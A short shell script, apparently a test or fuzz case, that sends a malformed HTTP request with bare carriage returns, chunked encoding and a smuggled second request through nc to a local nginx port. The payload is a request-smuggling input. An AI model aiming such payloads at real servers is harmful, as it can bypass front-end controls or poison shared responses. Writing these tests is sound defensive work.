#!/bin/sh
# desync/bare-cr/smuggled-request via stream.concatenate against nginx
printf 'T / HTTP/1.1\r\nHost:}\r\nTransfer-Encoding:chunked\r\r\n\n0\n\r\nPT /eo HTTP/1.1\r\nHost: {h\r\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
